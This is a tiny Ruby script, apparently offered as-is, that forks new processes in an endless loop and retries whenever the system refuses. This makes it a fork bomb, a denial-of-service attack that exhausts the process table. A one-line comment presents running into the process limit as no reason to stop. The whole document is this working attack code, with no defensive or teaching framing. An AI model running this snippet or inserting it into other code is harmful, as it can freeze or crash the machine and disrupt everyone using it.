# Children that cannot be made are no reason to stop: the limit of processes holds, and time ends it.
loop do
  begin
    fork
  rescue SystemCallError
    next
  end
end
